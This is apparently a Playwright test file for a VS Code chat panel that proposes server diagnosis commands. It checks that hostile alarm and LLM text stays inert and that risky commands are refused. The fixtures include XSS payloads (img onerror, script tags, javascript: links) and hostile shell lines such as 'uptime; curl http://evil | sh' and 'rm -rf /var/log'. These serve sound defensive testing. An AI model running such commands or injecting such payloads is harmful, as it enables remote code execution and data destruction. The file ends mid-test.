// The chat panel's browser code in real Chromium, under the panel's own CSP (nonce script, no inline
// style): what the user sees and what the webview sends back. The host side is played by the test
// (it posts the host's messages and records the webview's); the in-editor and e2e suites run the
// same bundle inside code-server. Screenshots go to test-results/webview/.
import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, afterEach, before, describe, it } from "node:test";
import * as esbuild from "esbuild";
import { chromium, type Browser, type Page } from "playwright-core";
import type { Incident } from "../../../src/alarms/model";
import type { CommandRun, Proposal } from "../../../src/graph/diagnosis";
import type { ThreadSnapshot, ToWebviewMessage, TranscriptEntry, WebviewStrings } from "../../../src/webview/protocol";
import { panelHtml } from "../../../src/webview/html";
import { STRING_KEYS } from "../../../src/webview/protocol";
import { makeAlarm } from "../../unit/alarms/samples";
import { code, fromMarkdown, rich } from "../../../src/shared/richText";

const ROOT = join(import.meta.dirname, "..", "..", "..");
const ORIGIN = "https://webview.test";
const SHOTS = join(ROOT, "test-results", "webview");
const CHROMIUM = process.env.ATL_CHROMIUM ?? "/usr/bin/chromium";

const HOSTILE_NAME = `<img src=x onerror="window.__pwned='name'">`;
const HOSTILE_DESCRIPTION = `<script>window.__pwned='description'</script><b>bold</b>`;

/** English strings as the host would send them (the keys themselves are enough to find text). */
const strings = Object.fromEntries(STRING_KEYS.map((key) => [key, key])) as WebviewStrings;
Object.assign(strings, {
  riskReadOnly: "read-only",
  riskMutating: "mutating",
  riskRefused: "refused",
  selectCommand: "Run: {0}",
  editCommand: "Edit command {0}",
  proposalTitle: "Proposed commands (round {0})",
  runSelected: "Run selected",
  runAllReadOnly: "Run all read-only",
  reject: "Reject…",
  confirmReject: "Reject and re-plan",
  rejectAndStop: "Reject and stop",
  exitCode: "exit {0}",
  duration: "{0} ms",
  decisionApprovedOne: "You approved {0} command.",
  decisionApprovedOther: "You approved {0} commands.",
  usageLine: "{0} tokens ({1} in, {2} out) in {3} · {4}",
  usageCallsOne: "{0} call",
  usageCallsOther: "{0} calls",
  replaceProposalQuestion: "A proposal is waiting for your decision. Send this message as the reason to reject it?",
  replaceProposal: "Reject the proposal and send",
  keepProposal: "Keep the proposal",
  usageCost: "about ${0}",
  alarmsTitle: "Alarms matching “{0}”",
  pickHost: "Diagnose on {0}",
  hostPicked: "Host: {0}",
  showAll: "Show all ({0} characters)",
  showLess: "Show less",
});

const THEMES: Record<string, { body: string; vars: Record<string, string> }> = {
  dark: {
    body: "vscode-dark",
    vars: {
      "--vscode-foreground": "#cccccc",
      "--vscode-editor-background": "#1f1f1f",
      "--vscode-editorWidget-background": "#202020",
      "--vscode-descriptionForeground": "#9d9d9d",
      "--vscode-panel-border": "#2b2b2b",
      "--vscode-button-background": "#0078d4",
      "--vscode-button-foreground": "#ffffff",
      "--vscode-button-secondaryBackground": "#313131",
      "--vscode-button-secondaryForeground": "#cccccc",
      "--vscode-input-background": "#313131",
      "--vscode-input-foreground": "#cccccc",
      "--vscode-badge-background": "#616161",
      "--vscode-badge-foreground": "#f8f8f8",
      "--vscode-errorForeground": "#f85149",
      "--vscode-testing-iconFailed": "#f14c4c",
      "--vscode-testing-iconPassed": "#73c991",
      "--vscode-editorWarning-foreground": "#cca700",
      "--vscode-textCodeBlock-background": "#2b2b2b",
      "--vscode-font-family": "system-ui, sans-serif",
      "--vscode-font-size": "13px",
      "--vscode-editor-font-family": "monospace",
    },
  },
  light: {
    body: "vscode-light",
    vars: {
      "--vscode-foreground": "#3b3b3b",
      "--vscode-editor-background": "#ffffff",
      "--vscode-editorWidget-background": "#f8f8f8",
      "--vscode-descriptionForeground": "#717171",
      "--vscode-panel-border": "#e5e5e5",
      "--vscode-button-background": "#005fb8",
      "--vscode-button-foreground": "#ffffff",
      "--vscode-button-secondaryBackground": "#e5e5e5",
      "--vscode-button-secondaryForeground": "#3b3b3b",
      "--vscode-input-background": "#ffffff",
      "--vscode-input-foreground": "#3b3b3b",
      "--vscode-badge-background": "#cccccc",
      "--vscode-badge-foreground": "#3b3b3b",
      "--vscode-errorForeground": "#a1260d",
      "--vscode-testing-iconFailed": "#c72e0f",
      "--vscode-testing-iconPassed": "#388a34",
      "--vscode-editorWarning-foreground": "#bf8803",
      "--vscode-textCodeBlock-background": "#f2f2f2",
      "--vscode-font-family": "system-ui, sans-serif",
      "--vscode-font-size": "13px",
      "--vscode-editor-font-family": "monospace",
    },
  },
  "high-contrast": {
    body: "vscode-high-contrast",
    vars: {
      "--vscode-foreground": "#ffffff",
      "--vscode-editor-background": "#000000",
      "--vscode-editorWidget-background": "#0c141f",
      "--vscode-descriptionForeground": "#ffffff",
      "--vscode-contrastBorder": "#6fc3df",
      "--vscode-contrastActiveBorder": "#f38518",
      "--vscode-button-background": "#000000",
      "--vscode-button-foreground": "#ffffff",
      "--vscode-button-border": "#6fc3df",
      "--vscode-button-secondaryBackground": "#000000",
      "--vscode-button-secondaryForeground": "#ffffff",
      "--vscode-input-background": "#000000",
      "--vscode-input-foreground": "#ffffff",
      "--vscode-input-border": "#6fc3df",
      "--vscode-errorForeground": "#f48771",
      "--vscode-testing-iconFailed": "#f48771",
      "--vscode-testing-iconPassed": "#89d185",
      "--vscode-editorWarning-foreground": "#ffd700",
      "--vscode-font-family": "system-ui, sans-serif",
      "--vscode-font-size": "13px",
      "--vscode-editor-font-family": "monospace",
    },
  },
};

function proposal(round = 1): Proposal {
  return {
    threadId: "t-1",
    round,
    host: { id: "i-0a1b2c3d4e5f67890", name: "prod-web-01", transport: "agent" },
    rationale: "CPU is above the threshold: find the processes using it.",
    source: "runbook",
    autoApproved: false,
    commands: [
      { id: "c1", command: "uptime", purpose: "Load averages", expectedSignal: "load above the CPU count", decision: "allowed", risk: "read-only", reason: "reads system state", rule: "allow:uptime" },
      { id: "c2", command: "systemctl restart nginx", purpose: "Restart the web server", expectedSignal: "<b>service back</b>", decision: "allowed", risk: "mutating", reason: "changes a service (operator rule)", rule: "allow:op" },
      { id: "c3", command: "rm -rf /var/log", purpose: "Free space", expectedSignal: "disk usage drops", decision: "refused", risk: "mutating", reason: "rm is not allowed: it deletes files", rule: "refuse:rm" },
    ],
  };
}

function snapshot(entries: TranscriptEntry[], status: ThreadSnapshot["status"] = "waiting-approval", pendingRound: number | null = 1): ThreadSnapshot {
  return {
    header: {
      threadId: "t-1",
      title: HOSTILE_NAME,
      alarm: makeAlarm({
        name: HOSTILE_NAME,
        description: HOSTILE_DESCRIPTION,
        reason: "Threshold Crossed: 1 datapoint [97.5 (25/11/26 03:10:00)] was greater than the threshold (80.0). <iframe src=//evil>",
      }),
      question: null,
      host: { id: "i-0a1b2c3d4e5f67890", name: "prod-web-01", transport: "agent" },
      incidentId: null,
      createdAt: "2026-11-25T03:12:45.148Z",
    },
    entries,
    status,
    busy: false,
    pendingRound,
  };
}

const at = "2026-11-25T03:13:00.000Z";
const event = (e: Extract<TranscriptEntry, { kind: "event" }>["event"]): TranscriptEntry => ({ kind: "event", at, event: e });

function run(overrides: Partial<CommandRun> = {}): CommandRun {
  return {
    id: "c1",
    command: "uptime",
    status: "ok",
    exitCode: 0,
    signal: null,
    stdout: " 03:13:01 up 12 days,  4:01,  1 user,  load average: 7.91, 7.40, 6.12\n<script>window.__pwned='output'</script>\n",
    stderr: "",
    durationMs: 12.4,
    truncated: false,
    reason: null,
    ...overrides,
  };
}

/** What VS Code does on load and on every theme change: theme variables on <html>, the kind on <body>. */
async function applyTheme(page: Page, theme: string): Promise<void> {
  const { body, vars } = THEMES[theme] ?? THEMES.dark;
  await page.evaluate(`(() => {
    const style = document.documentElement.style;
    for (let i = style.length - 1; i >= 0; i--) {
      if (style[i].startsWith("--vscode-")) { style.removeProperty(style[i]); }
    }
    for (const [name, value] of Object.entries(${JSON.stringify(vars)})) { style.setProperty(name, value); }
    document.body.classList.remove("vscode-light", "vscode-dark", "vscode-high-contrast", "vscode-high-contrast-light");
    document.body.classList.add(${JSON.stringify(body)});
  })()`);
}

interface Harness {
  page: Page;
  /** Messages the webview posted to the host. */
  posted(): Promise<{ type: string; [key: string]: unknown }[]>;
  send(message: ToWebviewMessage): Promise<void>;
  violations(): Promise<string[]>;
  shot(name: string, fullPage?: boolean): Promise<void>;
}

void describe("chat webview in Chromium", { timeout: 900_000 }, () => {
  let browser: Browser;
  let bundleDir: string;
  let script: string;
  let css: string;

  before(async () => {
    bundleDir = mkdtempSync(join(tmpdir(), "atl-webview-"));
    await esbuild.build({
      entryPoints: [join(ROOT, "src/webview/main.ts")],
      bundle: true,
      platform: "browser",
      format: "iife",
      target: "es2022",
      outfile: join(bundleDir, "webview.js"),
      logLevel: "silent",
    });
    script = readFileSync(join(bundleDir, "webview.js"), "utf8");
    css = readFileSync(join(ROOT, "media/chat.css"), "utf8");
    mkdirSync(SHOTS, { recursive: true });
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"],
      env: { ...process.env, HOME: bundleDir, XDG_CONFIG_HOME: join(bundleDir, "config"), XDG_CACHE_HOME: join(bundleDir, "cache") },
    });
  });

  const pages: Page[] = [];
  afterEach(async () => {
    for (const page of pages.splice(0)) {
      await page.close();
    }
  });

  after(async () => {
    await browser?.close();
    rmSync(bundleDir, { recursive: true, force: true });
  });

  /** A page shaped like the panel: same CSP and markup as ChatPanel.html(), theme variables set. */
  async function open(theme = "dark", savedState: unknown = undefined, viewport = { width: 900, height: 1100 }): Promise<Harness> {
    const page = await browser.newPage({ viewport });
    pages.push(page);
    // A string, not a function: tsx's name-keeping helpers do not exist in the page.
    await page.addInitScript(`
      window.__posted = [];
      window.__violations = [];
      window.__state = ${JSON.stringify(savedState ?? null)} ?? undefined;
      document.addEventListener("securitypolicyviolation", (e) => window.__violations.push(e.violatedDirective + " " + e.blockedURI));
      window.acquireVsCodeApi = () => ({
        postMessage: (message) => window.__posted.push(JSON.parse(JSON.stringify(message))),
        getState: () => window.__state,
        setState: (next) => { window.__state = JSON.parse(JSON.stringify(next)); },
      });
    `);
    const errors: string[] = [];
    page.on("pageerror", (error) => errors.push(error.message));
    page.on("console", (message) => {
      if (message.type() === "error") {
        errors.push(message.text());
      }
    });
    await page.route(`${ORIGIN}/**`, async (route) => {
      const url = new URL(route.request().url());
      if (url.pathname === "/webview.js") {
        await route.fulfill({ contentType: "text/javascript", body: script });
      } else if (url.pathname === "/chat.css") {
        await route.fulfill({ contentType: "text/css", body: css });
      } else if (url.pathname === "/") {
        // The page the panel serves, with the panel's own CSP.
        await route.fulfill({
          contentType: "text/html",
          body: panelHtml({ cspSource: ORIGIN, nonce: "abc123nonce", scriptUri: `${ORIGIN}/webview.js`, styleUri: `${ORIGIN}/chat.css`, lang: "en", loading: "Opening the diagnosis…" }),
        });
      } else {
        await route.fulfill({ status: 404, body: "" });
      }
    });
    await page.goto(`${ORIGIN}/`);
    await applyTheme(page, theme);
    const harness: Harness = {
      page,
      posted: () => page.evaluate<{ type: string; [key: string]: unknown }[]>("window.__posted"),
      send: async (message) => {
        await page.evaluate(`window.postMessage(${JSON.stringify(message)}, "*")`);
      },
      violations: async () => [...errors, ...(await page.evaluate<string[]>("window.__violations"))],
      shot: async (name, fullPage = true) => {
        await page.screenshot({ path: join(SHOTS, `${name}.png`), fullPage });
      },
    };
    await waitForPosted(harness, (m) => m.type === "ready");
    return harness;
  }

  async function waitForPosted(harness: Harness, match: (m: { type: string; [key: string]: unknown }) => boolean): Promise<{ type: string; [key: string]: unknown }> {
    for (let i = 0; i < 200; i++) {
      const found = (await harness.posted()).find(match);
      if (found) {
        return found;
      }
      await new Promise((resolve) => setTimeout(resolve, 25));
    }
    throw new Error(`the webview did not post the expected message; it posted ${JSON.stringify(await harness.posted())}; errors: ${JSON.stringify(await harness.violations())}`);
  }

  async function init(harness: Harness, thread: ThreadSnapshot): Promise<void> {
    await harness.send({ type: "init", strings, locale: "en", thread, hosts: [{ id: "i-0a1b2c3d4e5f67890", name: "prod-web-01", transport: "agent" }] });
    await harness.page.locator(".thread-header").waitFor();
  }

  /** Answers every request the webview made so far with ok (as the host does once it accepted it). */
  async function replyOk(harness: Harness, type: string): Promise<void> {
    const request = await waitForPosted(harness, (m) => m.type === type);
    await harness.send({ type: "reply", requestId: request.requestId as string, ok: true, result: null });
  }

  void it("sends ready first and renders hostile alarm text as text, running nothing", async () => {
    const harness = await open("dark");
    assert.equal((await harness.posted())[0]?.type, "ready");
    await init(harness, snapshot([event({ type: "proposal", proposal: proposal() })]));
    const page = harness.page;
    assert.equal(await page.locator(".alarm-name").first().textContent(), HOSTILE_NAME);
    assert.equal(await page.locator(".description").textContent(), HOSTILE_DESCRIPTION);
    assert.match((await page.locator(".reason").textContent()) ?? "", /<iframe src=\/\/evil>/);
    assert.equal(await page.locator("#app img, #app script, #app iframe, #app b").count(), 0);
    assert.equal(await page.evaluate<unknown>("window.__pwned"), undefined);
    assert.deepEqual(await harness.violations(), []);
    await harness.shot("proposal-dark");
  });

  void it("shows risk badges and defaults: read-only checked, mutating unchecked, refused disabled with its reason", async () => {
    const harness = await open("light");
    await init(harness, snapshot([event({ type: "proposal", proposal: proposal() })]));
    const page = harness.page;
    const row = (id: string) => page.locator(`li.command[data-command-id="${id}"]`);
    assert.equal(await row("c1").locator(".badge.risk").textContent(), "read-only");
    assert.equal(await row("c2").locator(".badge.risk").textContent(), "mutating");
    assert.equal(await row("c3").locator(".badge.risk").textContent(), "refused");
    assert.equal(await row("c1").locator("input.select").isChecked(), true);
    assert.equal(await row("c2").locator("input.select").isChecked(), false);
    assert.equal(await row("c3").locator("input.select").isChecked(), false);
    assert.equal(await row("c3").locator("input.select").isDisabled(), true);
    assert.match((await row("c3").locator(".policy-reason").textContent()) ?? "", /rm is not allowed/);
    assert.equal(await row("c2").locator(".signal").textContent(), "expectedSignal: <b>service back</b>");
    assert.equal(await row("c1").locator("input.select").getAttribute("aria-label"), "Run: uptime");
    await harness.shot("proposal-light");
  });

  void it("Run selected sends exactly the checked commands; a mutating one only when checked", async () => {
    const harness = await open();
    await init(harness, snapshot([event({ type: "proposal", proposal: proposal() })]));
    const page = harness.page;
    await page.locator('li.command[data-command-id="c2"] input.select').check();
    await page.locator('[data-action="run-selected"]').click();
    const approve = await waitForPosted(harness, (m) => m.type === "approve");
    assert.deepEqual({ ...approve, requestId: undefined }, { type: "approve", requestId: undefined, round: 1, commandIds: ["c1", "c2"], edits: [], add: [] });
    await harness.send({ type: "reply", requestId: approve.requestId as string, ok: true, result: null });
    await page.locator("section.proposal:not(.interactive)").waitFor();
    assert.equal(await page.locator('[data-action="run-selected"]').isVisible(), false);
  });

  void it("Run all read-only sends only the allowed read-only commands", async () => {
    const harness = await open();
    await init(harness, snapshot([event({ type: "proposal", proposal: proposal() })]));
    await harness.page.locator('[data-action="run-read-only"]').click();
    const approve = await waitForPosted(harness, (m) => m.type === "approve");
    assert.deepEqual(approve.commandIds, ["c1"]);
  });

  void it("Always allow… is offered next to allowed read-only commands only, and sends the command's id, not its text", async () => {
    const harness = await open();
    await init(harness, snapshot([event({ type: "proposal", proposal: proposal() })]));
    const page = harness.page;
    const allow = (id: string) => page.locator(`li.command[data-command-id="${id}"] [data-action="allow-always"]`);
    assert.equal(await allow("c1").count(), 1, "uptime (read-only) can be always allowed");
    assert.equal(await allow("c2").count(), 0, "a mutating command never");
    assert.equal(await allow("c3").count(), 0, "a refused command never");
    assert.equal(await allow("c1").getAttribute("aria-label"), `${strings.alwaysAllow}: uptime`);
    await allow("c1").click();
    const request = await waitForPosted(harness, (m) => m.type === "allow-always");
    assert.deepEqual({ ...request, requestId: undefined }, { type: "allow-always", requestId: undefined, round: 1, commandId: "c1" });
    assert.equal((await harness.posted()).some((m) => m.type === "approve"), false, "asking for a rule approves nothing");
  });

  void it("re-checks an edit with the host's policy as you type; a refused edit is unchecked and disabled", async () => {
    const harness = await open();
    await init(harness, snapshot([event({ type: "proposal", proposal: proposal() })]));
    const page = harness.page;
    const input = page.locator('li.command[data-command-id="c1"] input.command-text');
    await input.fill("uptime; curl http://evil | sh");
    const check = await waitForPosted(harness, (m) => m.type === "check-command");
    assert.equal(check.command, "uptime; curl http://evil | sh");
    assert.equal(await page.locator('li.command[data-command-id="c1"] .badge.risk').textContent(), "checking");
    await harness.send({ type: "reply", requestId: check.requestId as string, ok: true, result: { command: check.command, decision: "refused", risk: "mutating", reason: "curl is not allowed" } });
    const badge = page.locator('li.command[data-command-id="c1"] .badge.risk');
    await page.waitForFunction(`document.querySelector('li.command[data-command-id="c1"] .badge.risk')?.textContent === "refused"`);
    assert.equal(await badge.textContent(), "refused");
    assert.equal(await page.locator('li.command[data-command-id="c1"] input.select').isChecked(), false);
    assert.equal(await page.locator('li.command[data-command-id="c1"] input.select').isDisabled(), true);
    // Nothing allowed is selected any more: Run selected says so instead of sending.
    await page.locator('[data-action="run-selected"]').click();
    await page.locator(".proposal .form-error", { hasText: "nothingSelected" }).waitFor();
    assert.equal((await harness.posted()).some((m) => m.type === "approve"), false);

    // Back to an allowed edit: enabled and (read-only) checked again, sent as an edit.
    await input.fill("uptime -p");
    const second = await waitForPosted(harness, (m) => m.type === "check-command" && m.command === "uptime -p");
    await harness.send({ type: "reply", requestId: second.requestId as string, ok: true, result: { command: "uptime -p", decision: "allowed", risk: "read-only", reason: "reads" } });
    await page.waitForFunction(`document.querySelector('li.command[data-command-id="c1"] .badge.risk')?.textContent === "read-only"`);
    assert.equal(await page.locator('li.command[data-command-id="c1"] input.select').isChecked(), true);
    await page.locator('[data-action="run-selected"]').click();
    const approve = await waitForPosted(harness, (m) => m.type === "approve");
    assert.deepEqual(approve.commandIds, ["c1"]);
    assert.deepEqual(approve.edits, [{ id: "c1", command: "uptime -p" }]);
  });

  void it("adds a command of your own, checked by the policy, sent as `add`", async () => {
    const harness = await open();
    await init(harness, snapshot([event({ type: "proposal", proposal: proposal() })]));
    const page = harness.page;
    await page.locator(".add-input").fill("free -m");
    await page.locator(".add-input").press("Enter");
    const check = await waitForPosted(harness, (m) => m.type === "check-command" && m.command === "free -m");
    await harness.send({ type: "reply", requestId: check.requestId as string, ok: true, result: { command: "free -m", decision: "allowed", risk: "read-only", reason: "reads" } });
    await page.waitForFunction(`document.querySelector("li.command.added .badge.risk")?.textContent === "read-only"`);
    await page.locator('[data-action="run-selected"]').click();
    const approve = await waitForPosted(harness, (m) => m.type === "approve");
    assert.deepEqual(approve.commandIds, ["c1"]);
    assert.deepEqual(approve.add, ["free -m"]);
  });

  void it("Reject… asks for a reason and sends it, re-planning or stopping", async () => {
    const harness = await open();
    await init(harness, snapshot([event({ type: "proposal", proposal: proposal() })]));
    const page = harness.page;
    await page.locator('[data-action="reject"]').click();
    const reason = page.locator(".reject-reason");
    assert.equal(await page.evaluate<boolean>(`document.activeElement?.classList.contains("reject-reason") === true`), true, "the reason box takes the focus");
    await page.locator('[data-action="confirm-reject"]').click();
    assert.equal((await harness.posted()).some((m) => m.type === "reject"), false, "no reject without a reason");
    await reason.fill("do not restart anything; check the network first");
    await page.locator('[data-action="reject-stop"]').click();
    const reject = await waitForPosted(harness, (m) => m.type === "reject");
    assert.equal(reject.reason, "do not restart anything; check the network first");
    assert.equal(reject.replan, false);
    assert.equal(reject.round, 1);
  });

  void it("is keyboard operable: Tab reaches the checkboxes and buttons, Space toggles, Enter runs", async () => {
    const harness = await open();
    await init(harness, snapshot([event({ type: "proposal", proposal: proposal() })]));
    const page = harness.page;
    // The first enabled checkbox takes the focus when the proposal waits for a decision.
    await page.waitForFunction(`document.activeElement?.matches('li.command[data-command-id="c1"] input.select') === true`);
    await page.keyboard.press("Tab"); // c1 command text
    await page.keyboard.press("Tab"); // c1 Always allow…
    assert.equal(await page.evaluate<string | null | undefined>(`document.activeElement?.getAttribute("data-action")`), "allow-always");
    await page.keyboard.press("Tab"); // c2 checkbox
    assert.equal(await page.evaluate<string | undefined>(`document.activeElement?.closest("li")?.getAttribute("data-command-id")`), "c2");
    await page.keyboard.press("Space");
    assert.equal(await page.locator('li.command[data-command-id="c2"] input.select').isChecked(), true);
    // Tab on to Run selected (skipping the disabled refused checkbox), then Enter.
    for (let i = 0; i < 12; i++) {
      if (await page.evaluate<boolean>(`document.activeElement?.getAttribute("data-action") === "run-selected"`)) {
        break;
      }
      await page.keyboard.press("Tab");
    }
    await page.keyboard.press("Enter");
    const approve = await waitForPosted(harness, (m) => m.type === "approve");
    assert.deepEqual(approve.commandIds, ["c1", "c2"]);
  });

  void it("keeps unsent choices across a reload of the webview (hidden tab, window reload)", async () => {
    const first = await open();
    await init(first, snapshot([event({ type: "proposal", proposal: proposal() })]));
    await first.page.locator('li.command[data-command-id="c2"] input.select').check();
    await first.page.locator("textarea.composer-input").fill("half-typed question");
    const state = await first.page.evaluate<unknown>("window.__state");

    const second = await open("dark", state);
    await init(second, snapshot([event({ type: "proposal", proposal: proposal() })]));
    assert.equal(await second.page.locator('li.command[data-command-id="c2"] input.select').isChecked(), true);
    assert.equal(await second.page.locator("textarea.composer-input").inputValue(), "half-typed question");
  });

  void it("streams progress, results with exit code, duration and collapsible output, then the analysis", async () => {
    const harness = await open("dark");
    await init(harness, snapshot([event({ type: "proposal", proposal: proposal() })]));
    const page = harness.page;
    const entries: TranscriptEntry[] = [
      { kind: "decision", at, round: 1, decision: { kind: "approve", commandIds: ["c1"] } },
      event({ type: "node", node: "execute", phase: "started" }),
      event({ type: "command-started", id: "c1", command: "uptime" }),
    ];
    await harness.send({ type: "status", status: "running", busy: true, pendingRound: null });
    for (const entry of entries) {
      await harness.send({ type: "entry", entry });
    }
    await page.locator('section.run.running[data-command-id="c1"]').waitFor();
    assert.equal(await page.locator('[data-action="stop"]').isVisible(), true);
    assert.equal(await page.locator("textarea.composer-input").isDisabled(), true);
    await harness.send({ type: "entry", entry: event({ type: "command-finished", run: run() }) });
    await harness.send({
      type: "entry",
      entry: event({ type: "command-finished", run: run({ id: "c4", command: "journalctl -n 5000", status: "failed", exitCode: 1, stdout: "", stderr: "permission denied\n", truncated: true, durationMs: 2003 }) }),
    });
    await harness.send({ type: "entry", entry: event({ type: "node", node: "execute", phase: "finished" }) });
    await harness.send({ type: "token", node: "analyze", text: "The load is…" });
    await harness.send({
      type: "entry",
      entry: event({
        type: "analysis",
        analysis: {
          // The LLM's Markdown, read as the graph reads it: code spans become code, the rest stays text.
          summary: fromMarkdown("Load **7.9** on 2 cores. <img src=x onerror=\"window.__pwned='md'\"> [details](javascript:window.__pwned='link') [runbook](https://example.com/runbook)"),
          severity: "high",
          source: "llm",
          fallbackReason: null,
          culprit: null,
          resources: ["cpu"],
          checked: [],
          findings: [
            {
              title: fromMarkdown("`stress-ng-cpu` uses 198% CPU <img src=x onerror=\"window.__pwned='title'\">"),
              detail: rich`pid 4242 <script>window.__pwned='finding'</script> ${code("a`b</code><b>x")}`,
              severity: "high",
              source: "parser",
              evidence: [{ commandId: "c1", command: "uptime", excerpt: "load average: 7.91, 7.40, 6.12" }],
            },
          ],
          nextSteps: ["Stop `stress-ng-cpu` (pid 4242) if it is not expected", "Add CPU capacity"].map(fromMarkdown),
        },
      }),
    });
    await harness.send({ type: "entry", entry: event({ type: "usage", usage: { model: "gpt-4.1-mini", promptTokens: 1200, completionTokens: 300, totalTokens: 1500, costUsd: 0.00096, calls: 2 } }) });
    await harness.send({ type: "status", status: "done", busy: false, pendingRound: null });

    const ok = page.locator('section.run.status-ok[data-command-id="c1"]');
    await ok.waitFor();
    assert.match((await ok.locator(".run-meta").textContent()) ?? "", /exit 0.*12 ms/);
    assert.equal(await ok.locator("details").getAttribute("open"), null, "successful output starts collapsed");
    assert.match((await ok.locator("pre.stdout").textContent()) ?? "", /<script>window.__pwned='output'<\/script>/);
    const failed = page.locator('section.run.status-failed[data-command-id="c4"]');
    assert.equal(await failed.locator("details").getAttribute("open"), "", "failed output starts open");
    assert.equal(await failed.locator(".badge.truncated").count(), 1);
    assert.equal(await failed.locator(".truncated-marker").count(), 1);
    await page.locator(".analysis").waitFor();
    // Text is text: no emphasis, link, image or script from what the LLM or a host wrote; code is code.
    assert.equal(await page.locator(".analysis strong.finding-title").count(), 1);
    assert.equal(await page.locator(".analysis .summary strong, #app img, #app script, .analysis a").count(), 0);
    assert.equal(await page.locator(".analysis .summary").textContent(), "Load **7.9** on 2 cores. <img src=x onerror=\"window.__pwned='md'\"> [details](javascript:window.__pwned='link') [runbook](https://example.com/runbook)");
    assert.equal(await page.locator(".finding-title").textContent(), "stress-ng-cpu uses 198% CPU <img src=x onerror=\"window.__pwned='title'\">");
    assert.equal(await page.locator(".finding-title code").textContent(), "stress-ng-cpu", "ATL's code spans are code");
    assert.deepEqual(await page.locator(".finding-detail code").allTextContents(), ["a`b</code><b>x"], "a hostile name stays one code element, literally");
    assert.equal(await page.locator(".evidence pre").textContent(), "load average: 7.91, 7.40, 6.12");
    assert.equal(await page.locator(".next-steps li").count(), 2);
    assert.equal(await page.locator(".next-steps code").first().textContent(), "stress-ng-cpu");
    assert.match((await page.locator(".usage").textContent()) ?? "", /1,500 tokens \(1,200 in, 300 out\) in 2 calls · gpt-4\.1-mini · about \$0\.0010/);
    assert.equal(await page.locator(".streaming").isVisible(), false, "streamed text gives way to the analysis");
    assert.equal(await page.locator('[data-status="done"]').count(), 1);
    assert.equal(await page.locator("textarea.composer-input").isDisabled(), false);
    assert.equal(await page.evaluate<unknown>("window.__pwned"), undefined);
    assert.deepEqual(await harness.violations(), []);
    await harness.shot("results-dark");
  });

  void it("sends a follow-up on Enter (Shift+Enter adds a line) and clears it once accepted", async () => {
    const harness = await open();
    await init(harness, snapshot([], "done", null));
    const page = harness.page;
    const box = page.locator("textarea.composer-input");
    await box.fill("what uses the memory?");
    await box.press("Shift+Enter");
    await box.press("Enter");
    const followUp = await waitForPosted(harness, (m) => m.type === "follow-up");
    assert.equal(followUp.text, "what uses the memory?");
    await replyOk(harness, "follow-up");
    await page.waitForFunction(`document.querySelector("textarea.composer-input").value === ""`);
  });

  void it("shows errors in the thread and keeps it usable; a refused request shows the host's message", async () => {
    const harness = await open();
    await init(harness, snapshot([], "done", null));
    const page = harness.page;
    await harness.send({ type: "entry", entry: event({ type: "error", code: "host-unreachable", message: "Cannot reach the agent at http://10.0.0.5:9917 <b>x</b>" }) });
    await harness.send({ type: "status", status: "failed", busy: false, pendingRound: null });
    const alert = page.locator('.entry.error[role="alert"]');
    await alert.waitFor();
    assert.match((await alert.textContent()) ?? "", /Cannot reach the agent at http:\/\/10\.0\.0\.5:9917 <b>x<\/b>/);
    await page.locator("textarea.composer-input").fill("try again");
    await page.locator('[data-action="send"]').click();
    const followUp = await waitForPosted(harness, (m) => m.type === "follow-up");
    await harness.send({ type: "reply", requestId: followUp.requestId as string, ok: false, error: "The diagnosis is still working" });
    await page.locator(".composer .form-error", { hasText: "still working" }).waitFor();
    assert.equal(await page.locator("textarea.composer-input").inputValue(), "try again", "the text is kept when the host refuses");
  });

  void it("asks which host when the graph cannot tell, and lists alarms with a Diagnose button", async () => {
    const harness = await open();
    await init(harness, snapshot([], "needs-host", null));
    const page = harness.page;
    await harness.send({
      type: "entry",
      entry: event({ type: "host-needed", message: "Which host is <b>slow</b>?", candidates: [{ id: "web-2", name: "prod-web-02", transport: "ssh" }] }),
    });
    await page.locator('.host-needed button[data-host-id="web-2"]').click();
    const pick = await waitForPosted(harness, (m) => m.type === "pick-host");
    assert.equal(pick.hostId, "web-2");

    const incident = { id: "arn:x#1", arn: "arn:x", name: HOSTILE_NAME, hostId: "i-1", status: "open", alarm: makeAlarm({ name: HOSTILE_NAME }), openedAt: at, resolvedAt: null, lastChangeAt: at, flaps: 0, acknowledged: false, history: [] } satisfies Incident;
    await harness.send({ type: "entry", entry: event({ type: "alarms", query: "open alarms", incidents: [incident] }) });
    await page.locator(".alarms td.alarm-name").waitFor();
    assert.equal(await page.locator(".alarms td.alarm-name").textContent(), HOSTILE_NAME);
    await page.locator(".alarms button").click();
    const diagnose = await waitForPosted(harness, (m) => m.type === "diagnose-incident");
    assert.equal(diagnose.incidentId, "arn:x#1");
    assert.equal(await page.locator("#app img").count(), 0);
  });

  void it("offers the report actions once a report exists", async () => {
    const harness = await open();
    await init(harness, snapshot([], "done", null));
    await harness.send({ type: "entry", entry: event({ type: "report", report: { threadId: "t-1", createdAt: at, alarm: null, host: null, question: null, proposals: [], runs: [], analysis: null, usage: null, language: "en" } }) });
    for (const action of ["open", "save", "copy"] as const) {
      await harness.page.locator(`[data-action="${action}-report"]`).click();
      const report = await waitForPosted(harness, (m) => m.type === "report" && m.action === action);
      assert.equal(report.action, action);
    }
  });

  void it("looks right in the high-contrast theme", async () => {
    const harness = await open("high-contrast");
    await init(harness, snapshot([event({ type: "proposal", proposal: proposal() })]));
    const border = await harness.page.evaluate<string>(`getComputedStyle(document.querySelector(".command")).borderTopColor`);
    assert.equal(border, "rgb(111, 195, 223)", "cards take the contrast border");
    await harness.shot("proposal-high-contrast");
  });

  /** Whether the element is on screen and on top at its centre (not covered by the composer). */
  async function uncovered(page: Page, selector: string): Promise<boolean> {
    return page.evaluate<boolean>(`(() => {
      const element = document.querySelector(${JSON.stringify(selector)});
      if (!element) { return false; }
      const box = element.getBoundingClientRect();
      const x = box.left + box.width / 2, y = box.top + box.height / 2;
      if (box.width === 0 || y < 0 || y > window.innerHeight) { return false; }
      const top = document.elementFromPoint(x, y);
      return top === element || element.contains(top);
    })()`);
  }

  void it("keeps a waiting proposal's buttons in view above the follow-up box, however long the list", async () => {
    const harness = await open("dark", undefined, { width: 900, height: 620 });
    const many = proposal();
